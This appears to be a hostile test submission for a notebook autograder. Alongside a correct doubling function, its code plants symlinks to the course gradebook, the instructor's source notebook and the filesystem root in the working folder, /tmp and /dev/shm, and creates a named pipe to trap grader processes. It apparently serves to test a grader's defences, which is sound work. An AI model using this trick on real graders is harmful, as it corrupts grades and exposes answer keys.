# Leaves links in its work folder, so that whoever copies it follows them.
# earns: double-check=4 answer-check=2
# says: tried everything
# %% double
import os
def double(n):
    return 2 * n
for name, target in (("gradebook.db", "@COURSE@/gradebook.db"), ("small.ipynb", "@COURSE@/source/en/small/small.ipynb"), ("up", "/")):
    for place in (".", "/tmp", "/dev/shm"):
        os.symlink(target, os.path.join(place, name))
os.mkfifo("pipe")
print("tried", "everything")
